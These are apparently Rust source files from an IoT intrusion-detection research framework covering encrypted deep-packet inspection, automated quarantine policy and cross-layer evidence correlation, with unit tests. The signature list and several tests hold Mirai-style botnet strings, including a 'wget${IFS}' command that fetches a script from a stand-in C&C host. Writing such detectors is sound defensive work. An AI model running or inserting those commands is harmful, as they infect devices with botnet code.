    pub fn new(rules: Vec<Rule>) -> Self {
        let names = intern_names(&rules);
        EncryptedDpi {
            rules,
            names,
            compiled: Vec::new(),
            index: TokenIndex::default(),
            naive: false,
            bus: None,
            stats: DpiStats::default(),
        }
    }

    /// Attaches the evidence bus.
    pub fn with_bus(mut self, bus: EvidenceBus) -> Self {
        self.bus = Some(bus);
        self
    }

    /// Selects the naive per-rule scan instead of the token index
    /// (builder-style; used for A/B benchmarking).
    pub fn with_naive_matching(mut self, naive: bool) -> Self {
        self.naive = naive;
        self
    }

    /// Binds the rule set to a session: the rule authority (who holds the
    /// session secret via the separate XLF Core ↔ service channel the
    /// paper describes) compiles keyword tokens for this session and
    /// indexes them for single-pass matching.
    ///
    /// # Errors
    ///
    /// Propagates [`CryptoError`] from tokenizer construction.
    pub fn bind_session(&mut self, session_secret: &[u8]) -> Result<(), CryptoError> {
        let tokenizer = Tokenizer::new(session_secret)?;
        self.compiled = self
            .rules
            .iter()
            .map(|r| tokenizer.rule_tokens(&r.keyword))
            .collect();
        self.index = TokenIndex::build(self.compiled.clone());
        Ok(())
    }

    fn match_into(&self, tokens: &[Token], scratch: &mut Vec<Option<usize>>) -> Vec<DpiMatch> {
        if self.naive {
            scratch.clear();
            scratch.extend(
                self.compiled
                    .iter()
                    .map(|rule| match_rule(tokens, rule).first().copied()),
            );
        } else {
            self.index.find_first_per_rule_into(tokens, scratch);
        }
        matches_from_firsts(&self.names, scratch)
    }

    /// Pure matching over one traffic token stream: no counters, no
    /// evidence. Safe to call from multiple threads (`&self`), which is
    /// what the sharded batch path does.
    pub fn match_stream(&self, tokens: &[Token]) -> Vec<DpiMatch> {
        let mut scratch = Vec::new();
        self.match_into(tokens, &mut scratch)
    }

    fn record(&mut self, device: &str, matches: &[DpiMatch], now: SimTime) {
        self.stats.streams_inspected += 1;
        if matches.is_empty() {
            return;
        }
        self.stats.matches += 1;
        if let Some(bus) = &self.bus {
            for m in matches {
                bus.report(Evidence::new(
                    now,
                    Layer::Network,
                    device,
                    EvidenceKind::DpiMatch,
                    0.9,
                    &format!("rule {} matched at token {}", m.rule, m.offset),
                ));
            }
        }
    }

    /// Inspects a traffic token stream (produced by the sending endpoint);
    /// reports matches as evidence attributed to `device`.
    pub fn inspect(&mut self, device: &str, tokens: &[Token], now: SimTime) -> Vec<DpiMatch> {
        let out = self.match_stream(tokens);
        self.record(device, &out, now);
        out
    }

    /// Inspects a batch of token streams from one device, reusing the
    /// match scratch buffer across streams. Counters and evidence behave
    /// exactly as if [`EncryptedDpi::inspect`] were called per stream.
    pub fn inspect_batch(
        &mut self,
        device: &str,
        streams: &[Vec<Token>],
        now: SimTime,
    ) -> Vec<Vec<DpiMatch>> {
        let mut scratch = Vec::new();
        let mut out = Vec::with_capacity(streams.len());
        for tokens in streams {
            let matches = self.match_into(tokens, &mut scratch);
            self.record(device, &matches, now);
            out.push(matches);
        }
        out
    }
}

/// Matches a batch of token streams across `shards` worker threads
/// (crossbeam scoped threads over contiguous chunks). Pure matching —
/// counters and evidence stay with the caller, so the engine is shared
/// immutably across shards. Results keep the input order.
pub fn match_batch_sharded(
    dpi: &EncryptedDpi,
    streams: &[Vec<Token>],
    shards: usize,
) -> Vec<Vec<DpiMatch>> {
    let shards = shards.max(1).min(streams.len().max(1));
    if shards <= 1 {
        let mut scratch = Vec::new();
        return streams
            .iter()
            .map(|tokens| dpi.match_into(tokens, &mut scratch))
            .collect();
    }
    let chunk = streams.len().div_ceil(shards);
    crossbeam::thread::scope(|s| {
        let handles: Vec<_> = streams
            .chunks(chunk)
            .map(|chunk| {
                s.spawn(move || {
                    let mut scratch = Vec::new();
                    chunk
                        .iter()
                        .map(|tokens| dpi.match_into(tokens, &mut scratch))
                        .collect::<Vec<_>>()
                })
            })
            .collect();
        handles
            .into_iter()
            .flat_map(|h| h.join().expect("shard panicked"))
            .collect()
    })
    .expect("shard scope panicked")
}

/// Builds the default rule set from the botnet C&C signatures.
pub fn default_rules() -> Vec<Rule> {
    xlf_attacks_signatures()
        .iter()
        .enumerate()
        .map(|(i, sig)| Rule {
            name: format!("cnc-{i}"),
            keyword: sig.to_vec(),
        })
        .collect()
}

/// The signature byte strings (kept locally so `xlf-core` does not depend
/// on the attacks crate; the bench harness asserts the two lists agree).
pub fn xlf_attacks_signatures() -> Vec<&'static [u8]> {
    vec![
        b"wget${IFS}http://cnc.evil/bot.sh",
        b"/bin/busybox MIRAI",
        b"POST /cdn-cgi/ HTTP",
    ]
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::evidence::EvidenceStore;

    fn rules() -> Vec<Rule> {
        default_rules()
    }

    #[test]
    fn plaintext_dpi_finds_keywords() {
        let dpi = PlaintextDpi::new(rules());
        let hits = dpi.inspect(b"GET /x; wget${IFS}http://cnc.evil/bot.sh; exit");
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].rule.as_ref(), "cnc-0");
        assert_eq!(hits[0].offset, 8);
        assert!(dpi.inspect(b"GET /weather HTTP/1.1").is_empty());
    }

    #[test]
    fn plaintext_automaton_agrees_with_naive() {
        let mut rule_set = rules();
        rule_set.push(Rule {
            name: "empty".into(),
            keyword: Vec::new(),
        });
        rule_set.push(Rule {
            name: "overlap".into(),
            keyword: b"busybox".to_vec(),
        });
        let dpi = PlaintextDpi::new(rule_set);
        for payload in [
            &b"GET /x; wget${IFS}http://cnc.evil/bot.sh; exit"[..],
            b"/bin/busybox MIRAI and POST /cdn-cgi/ HTTP both",
            b"clean",
            b"",
        ] {
            assert_eq!(
                dpi.inspect(payload),
                dpi.inspect_naive(payload),
                "divergence on {payload:?}"
            );
        }
    }

    #[test]
    fn plaintext_batch_matches_per_payload_inspection() {
        let dpi = PlaintextDpi::new(rules());
        let payloads: Vec<&[u8]> = vec![
            b"benign",
            b"/bin/busybox MIRAI go",
            b"POST /cdn-cgi/ HTTP beacon",
        ];
        let batched = dpi.inspect_batch(&payloads);
        for (payload, batch) in payloads.iter().zip(&batched) {
            assert_eq!(&dpi.inspect(payload), batch);
        }
    }

    #[test]
    fn encrypted_dpi_matches_without_plaintext() {
        let mut middlebox = EncryptedDpi::new(rules());
        middlebox.bind_session(b"session secret").unwrap();

        // The endpoint tokenizes its (encrypted) payload.
        let endpoint = Tokenizer::new(b"session secret").unwrap();
        let dirty = endpoint.tokenize(b"sh -c 'wget${IFS}http://cnc.evil/bot.sh' &");
        let clean = endpoint.tokenize(b"POST /telemetry?t=72.3 HTTP/1.1");

        let hits = middlebox.inspect("cam", &dirty, SimTime::ZERO);
        assert_eq!(hits.len(), 1);
        assert!(middlebox.inspect("cam", &clean, SimTime::ZERO).is_empty());
        assert_eq!(
            middlebox.stats,
            DpiStats {
                streams_inspected: 2,
                matches: 1
            }
        );
    }

    #[test]
    fn encrypted_and_plaintext_agree_on_detection() {
        let payloads: Vec<&[u8]> = vec![
            b"benign telemetry payload with nothing in it",
            b"attack: /bin/busybox MIRAI scanner start",
            b"another clean one",
            b"hidden POST /cdn-cgi/ HTTP beacon",
        ];
        let plain = PlaintextDpi::new(rules());
        let mut enc = EncryptedDpi::new(rules());
        enc.bind_session(b"s").unwrap();
        let endpoint = Tokenizer::new(b"s").unwrap();
        for payload in payloads {
            let p_hit = !plain.inspect(payload).is_empty();
            let e_hit = !enc
                .inspect("d", &endpoint.tokenize(payload), SimTime::ZERO)
                .is_empty();
            assert_eq!(p_hit, e_hit, "divergence on {payload:?}");
        }
    }

    #[test]
    fn indexed_and_naive_encrypted_engines_agree() {
        let mut indexed = EncryptedDpi::new(rules());
        let mut naive = EncryptedDpi::new(rules()).with_naive_matching(true);
        indexed.bind_session(b"s").unwrap();
        naive.bind_session(b"s").unwrap();
        let endpoint = Tokenizer::new(b"s").unwrap();
        for payload in [
            &b"wget${IFS}http://cnc.evil/bot.sh"[..],
            b"prefix /bin/busybox MIRAI suffix",
            b"clean stream",
            b"hi",
        ] {
            let tokens = endpoint.tokenize(payload);
            assert_eq!(
                indexed.inspect("d", &tokens, SimTime::ZERO),
                naive.inspect("d", &tokens, SimTime::ZERO),
                "divergence on {payload:?}"
            );
        }
        assert_eq!(indexed.stats, naive.stats);
    }

    #[test]
    fn batch_inspection_matches_per_stream_inspection() {
        let payloads: Vec<&[u8]> = vec![
            b"benign telemetry",
            b"attack: /bin/busybox MIRAI scanner start",
            b"POST /cdn-cgi/ HTTP beacon",
            b"also clean",
        ];
        let endpoint = Tokenizer::new(b"s").unwrap();
        let streams: Vec<Vec<Token>> = payloads.iter().map(|p| endpoint.tokenize(p)).collect();

        let mut single = EncryptedDpi::new(rules());
        single.bind_session(b"s").unwrap();
        let expected: Vec<Vec<DpiMatch>> = streams
            .iter()
            .map(|t| single.inspect("d", t, SimTime::ZERO))
            .collect();

        let mut batched = EncryptedDpi::new(rules());
        batched.bind_session(b"s").unwrap();
        assert_eq!(
            batched.inspect_batch("d", &streams, SimTime::ZERO),
            expected
        );
        assert_eq!(batched.stats, single.stats);

        // Sharded matching (pure) returns the same matches in order.
        assert_eq!(match_batch_sharded(&batched, &streams, 3), expected);
        assert_eq!(match_batch_sharded(&batched, &streams, 16), expected);
    }

    #[test]
    fn wrong_session_tokens_never_match() {
        let mut middlebox = EncryptedDpi::new(rules());
        middlebox.bind_session(b"session A").unwrap();
        let other_endpoint = Tokenizer::new(b"session B").unwrap();
        let tokens = other_endpoint.tokenize(b"wget${IFS}http://cnc.evil/bot.sh");
        assert!(middlebox.inspect("cam", &tokens, SimTime::ZERO).is_empty());
    }

    #[test]
    fn matches_emit_evidence() {
        let (bus, drain) = EvidenceBus::new();
        let mut middlebox = EncryptedDpi::new(rules()).with_bus(bus);
        middlebox.bind_session(b"s").unwrap();
        let endpoint = Tokenizer::new(b"s").unwrap();
        middlebox.inspect(
            "cam",
            &endpoint.tokenize(b"/bin/busybox MIRAI"),
            SimTime::ZERO,
        );
        let mut store = EvidenceStore::new();
        drain.drain_into(&mut store);
        assert_eq!(store.all()[0].kind, EvidenceKind::DpiMatch);
        assert_eq!(store.all()[0].device, "cam");
    }
}
