//! Encrypted deep-packet inspection (§IV-B2): keyword rules from IoT
//! malware signatures are matched against traffic "similar to BlindBox",
//! preserving end-to-end encryption. The middlebox receives only
//! PRF-encrypted tokens; a plaintext DPI engine is included as the
//! baseline (and as the model of the certificate-injection middlebox the
//! paper rejects).

use crate::bus::EvidenceBus;
use crate::evidence::{Evidence, EvidenceKind, Layer};
use xlf_lwcrypto::searchable::{match_rule, Token, Tokenizer};
use xlf_lwcrypto::CryptoError;
use xlf_simnet::SimTime;

/// One detection rule (keyword + name), following the signature-generation
/// shape of Alhanahnah et al. ("one or more keywords to be matched in the
/// traffic").
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Rule {
    /// Rule identifier.
    pub name: String,
    /// Keyword bytes to match.
    pub keyword: Vec<u8>,
}

/// A rule match.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DpiMatch {
    /// The matching rule's name.
    pub rule: String,
    /// Token/byte offset of the first match.
    pub offset: usize,
}

/// Plaintext DPI baseline: byte-level keyword scan.
#[derive(Debug, Default)]
pub struct PlaintextDpi {
    rules: Vec<Rule>,
}

impl PlaintextDpi {
    /// Creates an engine with the given rules.
    pub fn new(rules: Vec<Rule>) -> Self {
        PlaintextDpi { rules }
    }

    /// Scans a plaintext payload.
    pub fn inspect(&self, payload: &[u8]) -> Vec<DpiMatch> {
        let mut out = Vec::new();
        for rule in &self.rules {
            if rule.keyword.is_empty() {
                continue;
            }
            if let Some(offset) = payload
                .windows(rule.keyword.len())
                .position(|w| w == rule.keyword)
            {
                out.push(DpiMatch {
                    rule: rule.name.clone(),
                    offset,
                });
            }
        }
        out
    }
}

/// The encrypted middlebox: holds rule *tokens* for each session and
/// matches them against traffic token streams. It never sees plaintext.
pub struct EncryptedDpi {
    rules: Vec<Rule>,
    /// Per-session compiled rule tokens: (rule name, token sequence).
    compiled: Vec<(String, Vec<Token>)>,
    bus: Option<EvidenceBus>,
    /// (inspected streams, matches) counters.
    pub stats: (u64, u64),
}

impl std::fmt::Debug for EncryptedDpi {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("EncryptedDpi")
            .field("rules", &self.rules.len())
            .field("stats", &self.stats)
            .finish_non_exhaustive()
    }
}

impl EncryptedDpi {
    /// Creates the middlebox with a rule set (not yet bound to a session).
    pub fn new(rules: Vec<Rule>) -> Self {
        EncryptedDpi {
            rules,
            compiled: Vec::new(),
            bus: None,
            stats: (0, 0),
        }
    }

    /// Attaches the evidence bus.
    pub fn with_bus(mut self, bus: EvidenceBus) -> Self {
        self.bus = Some(bus);
        self
    }

    /// Binds the rule set to a session: the rule authority (who holds the
    /// session secret via the separate XLF Core ↔ service channel the
    /// paper describes) compiles keyword tokens for this session.
    ///
    /// # Errors
    ///
    /// Propagates [`CryptoError`] from tokenizer construction.
    pub fn bind_session(&mut self, session_secret: &[u8]) -> Result<(), CryptoError> {
        let tokenizer = Tokenizer::new(session_secret)?;
        self.compiled = self
            .rules
            .iter()
            .map(|r| (r.name.clone(), tokenizer.rule_tokens(&r.keyword)))
            .collect();
        Ok(())
    }

    /// Inspects a traffic token stream (produced by the sending endpoint);
    /// reports matches as evidence attributed to `device`.
    pub fn inspect(&mut self, device: &str, tokens: &[Token], now: SimTime) -> Vec<DpiMatch> {
        self.stats.0 += 1;
        let mut out = Vec::new();
        for (name, rule_tokens) in &self.compiled {
            let positions = match_rule(tokens, rule_tokens);
            if let Some(&offset) = positions.first() {
                out.push(DpiMatch {
                    rule: name.clone(),
                    offset,
                });
            }
        }
        if !out.is_empty() {
            self.stats.1 += 1;
            if let Some(bus) = &self.bus {
                for m in &out {
                    bus.report(Evidence::new(
                        now,
                        Layer::Network,
                        device,
                        EvidenceKind::DpiMatch,
                        0.9,
                        &format!("rule {} matched at token {}", m.rule, m.offset),
                    ));
                }
            }
        }
        out
    }
}

/// Builds the default rule set from the botnet C&C signatures.
pub fn default_rules() -> Vec<Rule> {
    xlf_attacks_signatures()
        .iter()
        .enumerate()
        .map(|(i, sig)| Rule {
            name: format!("cnc-{i}"),
            keyword: sig.to_vec(),
        })
        .collect()
}

/// The signature byte strings (kept locally so `xlf-core` does not depend
/// on the attacks crate; the bench harness asserts the two lists agree).
pub fn xlf_attacks_signatures() -> Vec<&'static [u8]> {
    vec![
        b"wget${IFS}http://cnc.evil/bot.sh",
        b"/bin/busybox MIRAI",
        b"POST /cdn-cgi/ HTTP",
    ]
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::evidence::EvidenceStore;

    fn rules() -> Vec<Rule> {
        default_rules()
    }

    #[test]
    fn plaintext_dpi_finds_keywords() {
        let dpi = PlaintextDpi::new(rules());
        let hits = dpi.inspect(b"GET /x; wget${IFS}http://cnc.evil/bot.sh; exit");
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].rule, "cnc-0");
        assert!(dpi.inspect(b"GET /weather HTTP/1.1").is_empty());
    }

    #[test]
    fn encrypted_dpi_matches_without_plaintext() {
        let mut middlebox = EncryptedDpi::new(rules());
        middlebox.bind_session(b"session secret").unwrap();

        // The endpoint tokenizes its (encrypted) payload.
        let endpoint = Tokenizer::new(b"session secret").unwrap();
        let dirty = endpoint.tokenize(b"sh -c 'wget${IFS}http://cnc.evil/bot.sh' &");
        let clean = endpoint.tokenize(b"POST /telemetry?t=72.3 HTTP/1.1");

        let hits = middlebox.inspect("cam", &dirty, SimTime::ZERO);
        assert_eq!(hits.len(), 1);
        assert!(middlebox.inspect("cam", &clean, SimTime::ZERO).is_empty());
        assert_eq!(middlebox.stats, (2, 1));
    }

    #[test]
    fn encrypted_and_plaintext_agree_on_detection() {
        let payloads: Vec<&[u8]> = vec![
            b"benign telemetry payload with nothing in it",
            b"attack: /bin/busybox MIRAI scanner start",
            b"another clean one",
            b"hidden POST /cdn-cgi/ HTTP beacon",
        ];
        let plain = PlaintextDpi::new(rules());
        let mut enc = EncryptedDpi::new(rules());
        enc.bind_session(b"s").unwrap();
        let endpoint = Tokenizer::new(b"s").unwrap();
        for payload in payloads {
            let p_hit = !plain.inspect(payload).is_empty();
            let e_hit = !enc
                .inspect("d", &endpoint.tokenize(payload), SimTime::ZERO)
                .is_empty();
            assert_eq!(p_hit, e_hit, "divergence on {payload:?}");
        }
    }

    #[test]
    fn wrong_session_tokens_never_match() {
        let mut middlebox = EncryptedDpi::new(rules());
        middlebox.bind_session(b"session A").unwrap();
        let other_endpoint = Tokenizer::new(b"session B").unwrap();
        let tokens = other_endpoint.tokenize(b"wget${IFS}http://cnc.evil/bot.sh");
        assert!(middlebox.inspect("cam", &tokens, SimTime::ZERO).is_empty());
    }

    #[test]
    fn matches_emit_evidence() {
        let (bus, drain) = EvidenceBus::new();
        let mut middlebox = EncryptedDpi::new(rules()).with_bus(bus);
        middlebox.bind_session(b"s").unwrap();
        let endpoint = Tokenizer::new(b"s").unwrap();
        middlebox.inspect(
            "cam",
            &endpoint.tokenize(b"/bin/busybox MIRAI"),
            SimTime::ZERO,
        );
        let mut store = EvidenceStore::new();
        drain.drain_into(&mut store);
        assert_eq!(store.all()[0].kind, EvidenceKind::DpiMatch);
        assert_eq!(store.all()[0].device, "cam");
    }
}
