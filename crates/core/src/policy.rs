//! The response policy: verdicts become automated mitigations. XLF's
//! proactive stance (§IV: "proactive protection against intrusions")
//! means the gateway quarantines, revokes, and rolls back without waiting
//! for a human.

use crate::alerts::Severity;
use crate::correlation::Verdict;
use std::collections::BTreeSet;
use xlf_simnet::SimTime;

/// An automated response action.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ResponseAction {
    /// Block the device's traffic at the gateway (NAC quarantine).
    Quarantine {
        /// Device to isolate.
        device: String,
    },
    /// Revoke the device's/user's tokens at the cloud.
    RevokeTokens {
        /// Subject whose tokens die.
        subject: String,
    },
    /// Push the last known-good firmware.
    ForceFirmwareRollback {
        /// Device to restore.
        device: String,
    },
    /// Notify the user (always emitted alongside stronger actions).
    NotifyUser {
        /// Message.
        message: String,
    },
}

/// Decision thresholds for the policy engine.
#[derive(Debug, Clone)]
pub struct PolicyConfig {
    /// Score at which the device is watched and the user informed.
    pub warn_threshold: f64,
    /// Score at which automated mitigation engages.
    pub act_threshold: f64,
}

impl Default for PolicyConfig {
    fn default() -> Self {
        PolicyConfig {
            warn_threshold: 0.35,
            act_threshold: 0.6,
        }
    }
}

/// The policy engine and its quarantine list.
#[derive(Debug, Default)]
pub struct PolicyEngine {
    /// Thresholds.
    pub config: PolicyConfig,
    quarantined: BTreeSet<String>,
}

impl PolicyEngine {
    /// Creates an engine with default thresholds.
    pub fn new(config: PolicyConfig) -> Self {
        PolicyEngine {
            config,
            quarantined: BTreeSet::new(),
        }
    }

    /// Maps a verdict to (severity, actions); applies quarantine state.
    pub fn respond(&mut self, verdict: &Verdict, _now: SimTime) -> (Severity, Vec<ResponseAction>) {
        if verdict.score >= self.config.act_threshold {
            self.quarantined.insert(verdict.device.clone());
            let actions = vec![
                ResponseAction::Quarantine {
                    device: verdict.device.clone(),
                },
                ResponseAction::RevokeTokens {
                    subject: verdict.device.clone(),
                },
                ResponseAction::ForceFirmwareRollback {
                    device: verdict.device.clone(),
                },
                ResponseAction::NotifyUser {
                    message: format!(
                        "device {} quarantined (score {:.2}, layers {:?})",
                        verdict.device, verdict.score, verdict.layers
                    ),
                },
            ];
            (Severity::Critical, actions)
        } else if verdict.score >= self.config.warn_threshold {
            (
                Severity::Warning,
                vec![ResponseAction::NotifyUser {
                    message: format!(
                        "device {} suspicious (score {:.2})",
                        verdict.device, verdict.score
                    ),
                }],
            )
        } else {
            (Severity::Info, Vec::new())
        }
    }

    /// Whether a device is quarantined.
    pub fn is_quarantined(&self, device: &str) -> bool {
        self.quarantined.contains(device)
    }

    /// Releases a device (operator override after remediation).
    pub fn release(&mut self, device: &str) -> bool {
        self.quarantined.remove(device)
    }

    /// Devices currently quarantined.
    pub fn quarantined(&self) -> impl Iterator<Item = &str> {
        self.quarantined.iter().map(String::as_str)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::evidence::Layer;

    fn verdict(device: &str, score: f64) -> Verdict {
        Verdict {
            device: device.to_string(),
            score,
            layers: vec![Layer::Network],
            kinds: vec![],
        }
    }

    #[test]
    fn high_scores_trigger_full_mitigation() {
        let mut engine = PolicyEngine::new(PolicyConfig::default());
        let (severity, actions) = engine.respond(&verdict("cam", 0.9), SimTime::ZERO);
        assert_eq!(severity, Severity::Critical);
        assert!(actions
            .iter()
            .any(|a| matches!(a, ResponseAction::Quarantine { .. })));
        assert!(engine.is_quarantined("cam"));
    }

    #[test]
    fn mid_scores_warn_without_quarantine() {
        let mut engine = PolicyEngine::new(PolicyConfig::default());
        let (severity, actions) = engine.respond(&verdict("cam", 0.4), SimTime::ZERO);
        assert_eq!(severity, Severity::Warning);
        assert_eq!(actions.len(), 1);
        assert!(!engine.is_quarantined("cam"));
    }

    #[test]
    fn low_scores_do_nothing() {
        let mut engine = PolicyEngine::new(PolicyConfig::default());
        let (severity, actions) = engine.respond(&verdict("cam", 0.1), SimTime::ZERO);
        assert_eq!(severity, Severity::Info);
        assert!(actions.is_empty());
    }

    #[test]
    fn release_lifts_quarantine() {
        let mut engine = PolicyEngine::new(PolicyConfig::default());
        engine.respond(&verdict("cam", 0.9), SimTime::ZERO);
        assert!(engine.release("cam"));
        assert!(!engine.is_quarantined("cam"));
        assert!(!engine.release("cam"));
    }
}
