//! Cross-layer correlation (§IV-D): the Core "connects and correlates the
//! security functions in different layers", fusing per-layer evidence into
//! per-device verdicts. Two fusion modes are provided:
//!
//! * **Rule fusion** (always on): per-layer scores with a cross-layer
//!   corroboration bonus — multiple layers seeing trouble is far stronger
//!   than one layer seeing a lot of it. This is the deterministic spine
//!   the Figure 4 experiment sweeps.
//! * **MKL fusion** (optional): per-layer evidence windows become feature
//!   vectors and an [`MklClassifier`] trained on labeled history refines
//!   the verdict — the paper's "integrated analysis of multiple data
//!   sources" with "a technically sound way to combine features from
//!   heterogeneous sources".

use crate::evidence::{Evidence, EvidenceKind, EvidenceStore, Layer};
use xlf_analytics::kernel::Kernel;
use xlf_analytics::mkl::MklClassifier;
use xlf_simnet::{Duration, SimTime};

/// A fused per-device verdict.
#[derive(Debug, Clone, PartialEq)]
pub struct Verdict {
    /// Device concerned.
    pub device: String,
    /// Fused suspicion score in `[0, 1]`.
    pub score: f64,
    /// Layers contributing non-benign evidence.
    pub layers: Vec<Layer>,
    /// Evidence kinds that contributed.
    pub kinds: Vec<EvidenceKind>,
}

impl Verdict {
    /// Whether the verdict crosses the given decision threshold.
    pub fn is_malicious(&self, threshold: f64) -> bool {
        self.score >= threshold
    }
}

/// Tuning of the rule-fusion engine.
#[derive(Debug, Clone)]
pub struct CorrelationConfig {
    /// Evidence look-back window.
    pub window: Duration,
    /// Per-layer score saturation (max contribution of one layer).
    pub layer_cap: f64,
    /// Multiplicative bonus per additional corroborating layer.
    pub cross_layer_bonus: f64,
    /// Restrict fusion to this single layer (ablation: "device-only",
    /// "network-only", "service-only" monitors of the Figure 4 sweep).
    pub only_layer: Option<Layer>,
}

impl Default for CorrelationConfig {
    fn default() -> Self {
        CorrelationConfig {
            window: Duration::from_secs(300),
            layer_cap: 0.6,
            cross_layer_bonus: 0.35,
            only_layer: None,
        }
    }
}

/// The correlation engine.
#[derive(Debug, Default)]
pub struct CorrelationEngine {
    /// Rule-fusion configuration.
    pub config: CorrelationConfig,
    /// Optional trained MKL refiner.
    mkl: Option<MklClassifier>,
}

/// Evidence kinds that are context, not suspicion.
fn is_benign(kind: &EvidenceKind) -> bool {
    matches!(
        kind,
        EvidenceKind::AuthSuccess | EvidenceKind::StateTransition
    )
}

/// Feature vector of one device's evidence in one layer (for MKL).
fn layer_features(evidence: &[&Evidence], layer: Layer) -> Vec<f64> {
    let in_layer: Vec<&&Evidence> = evidence.iter().filter(|e| e.layer == layer).collect();
    let suspicious: Vec<&&&Evidence> = in_layer.iter().filter(|e| !is_benign(&e.kind)).collect();
    let weight_sum: f64 = suspicious.iter().map(|e| e.weight).sum();
    let max_weight = suspicious.iter().map(|e| e.weight).fold(0.0f64, f64::max);
    vec![
        in_layer.len() as f64,
        suspicious.len() as f64,
        weight_sum,
        max_weight,
    ]
}

impl CorrelationEngine {
    /// Creates an engine with default rule fusion and no MKL refiner.
    pub fn new(config: CorrelationConfig) -> Self {
        CorrelationEngine { config, mkl: None }
    }

    /// Trains the MKL refiner on labeled device windows.
    ///
    /// `examples` are `(evidence-window, malicious?)` pairs; each window
    /// is featurized per layer (three heterogeneous sources, one kernel
    /// each, exactly the §IV-D construction).
    pub fn train_mkl(&mut self, examples: &[(Vec<Evidence>, bool)]) {
        let mut device_block = Vec::new();
        let mut network_block = Vec::new();
        let mut service_block = Vec::new();
        let mut labels = Vec::new();
        for (window, malicious) in examples {
            let refs: Vec<&Evidence> = window.iter().collect();
            device_block.push(layer_features(&refs, Layer::Device));
            network_block.push(layer_features(&refs, Layer::Network));
            service_block.push(layer_features(&refs, Layer::Service));
            labels.push(if *malicious { 1.0 } else { -1.0 });
        }
        let clf = MklClassifier::train(
            vec![
                Kernel::Rbf { gamma: 0.25 },
                Kernel::Rbf { gamma: 0.25 },
                Kernel::Rbf { gamma: 0.25 },
            ],
            vec![device_block, network_block, service_block],
            &labels,
            100,
        );
        self.mkl = Some(clf);
    }

    /// Whether an MKL refiner is installed.
    pub fn has_mkl(&self) -> bool {
        self.mkl.is_some()
    }

    /// Rule-fusion score for one device at `now`.
    pub fn evaluate_device(&self, store: &EvidenceStore, device: &str, now: SimTime) -> Verdict {
        let window = store.for_device(device, now, self.config.window);
        let relevant: Vec<&Evidence> = window
            .into_iter()
            .filter(|e| self.config.only_layer.map(|l| e.layer == l).unwrap_or(true))
            .collect();

        let mut layers = Vec::new();
        let mut kinds = Vec::new();
        let mut per_layer_score = [0.0f64; 3];
        for e in relevant.iter().filter(|e| !is_benign(&e.kind)) {
            let idx = match e.layer {
                Layer::Device => 0,
                Layer::Network => 1,
                Layer::Service => 2,
            };
            per_layer_score[idx] += e.weight * 0.35;
            if !layers.contains(&e.layer) {
                layers.push(e.layer);
            }
            if !kinds.contains(&e.kind) {
                kinds.push(e.kind);
            }
        }
        for s in per_layer_score.iter_mut() {
            *s = s.min(self.config.layer_cap);
        }
        // Base score: the strongest layer counts fully, corroborating
        // layers add half their (capped) score, and the cross-layer bonus
        // multiplies on top — so one layer can raise a warning, but
        // confident verdicts need agreement.
        let sum: f64 = per_layer_score.iter().sum();
        let max = per_layer_score.iter().copied().fold(0.0f64, f64::max);
        let base = max + 0.5 * (sum - max);
        let corroborating = layers.len().saturating_sub(1) as f64;
        let mut score = (base * (1.0 + self.config.cross_layer_bonus * corroborating)).min(1.0);

        // MKL refinement: average the rule score with the (rescaled)
        // classifier decision when a refiner is installed.
        if let Some(clf) = &self.mkl {
            let sample = vec![
                layer_features(&relevant, Layer::Device),
                layer_features(&relevant, Layer::Network),
                layer_features(&relevant, Layer::Service),
            ];
            let decision = clf.decision(&sample);
            let mkl_score = 0.5 + 0.5 * decision.tanh();
            score = (score + mkl_score) / 2.0;
        }

        Verdict {
            device: device.to_string(),
            score,
            layers,
            kinds,
        }
    }

    /// Evaluates every device with recent evidence.
    pub fn evaluate_all(&self, store: &EvidenceStore, now: SimTime) -> Vec<Verdict> {
        store
            .active_devices(now, self.config.window)
            .into_iter()
            .map(|d| self.evaluate_device(store, &d, now))
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ev(at_s: u64, device: &str, layer: Layer, kind: EvidenceKind, weight: f64) -> Evidence {
        Evidence::new(SimTime::from_secs(at_s), layer, device, kind, weight, "t")
    }

    fn now() -> SimTime {
        SimTime::from_secs(100)
    }

    #[test]
    fn cross_layer_corroboration_beats_single_layer_volume() {
        let engine = CorrelationEngine::new(CorrelationConfig::default());

        // Device A: one layer, many signals.
        let mut store_a = EvidenceStore::new();
        for i in 0..6 {
            store_a.push(ev(
                10 + i,
                "a",
                Layer::Network,
                EvidenceKind::TrafficAnomaly,
                0.6,
            ));
        }
        // Device B: three layers, two signals each.
        let mut store_b = EvidenceStore::new();
        for i in 0..2 {
            store_b.push(ev(
                10 + i,
                "b",
                Layer::Device,
                EvidenceKind::AuthFailure,
                0.6,
            ));
            store_b.push(ev(20 + i, "b", Layer::Network, EvidenceKind::DpiMatch, 0.6));
            store_b.push(ev(
                30 + i,
                "b",
                Layer::Service,
                EvidenceKind::ActionDenied,
                0.6,
            ));
        }
        let va = engine.evaluate_device(&store_a, "a", now());
        let vb = engine.evaluate_device(&store_b, "b", now());
        assert!(
            vb.score > va.score,
            "cross-layer {} must beat single-layer {}",
            vb.score,
            va.score
        );
        assert_eq!(vb.layers.len(), 3);
    }

    #[test]
    fn benign_evidence_scores_zero() {
        let engine = CorrelationEngine::new(CorrelationConfig::default());
        let mut store = EvidenceStore::new();
        for i in 0..20 {
            store.push(ev(
                i,
                "lamp",
                Layer::Service,
                EvidenceKind::StateTransition,
                1.0,
            ));
            store.push(ev(i, "lamp", Layer::Device, EvidenceKind::AuthSuccess, 1.0));
        }
        let v = engine.evaluate_device(&store, "lamp", now());
        assert_eq!(v.score, 0.0);
        assert!(!v.is_malicious(0.1));
    }

    #[test]
    fn single_layer_ablation_ignores_other_layers() {
        let engine = CorrelationEngine::new(CorrelationConfig {
            only_layer: Some(Layer::Device),
            ..Default::default()
        });
        let mut store = EvidenceStore::new();
        store.push(ev(10, "cam", Layer::Network, EvidenceKind::DpiMatch, 0.9));
        store.push(ev(
            11,
            "cam",
            Layer::Network,
            EvidenceKind::TrafficAnomaly,
            0.9,
        ));
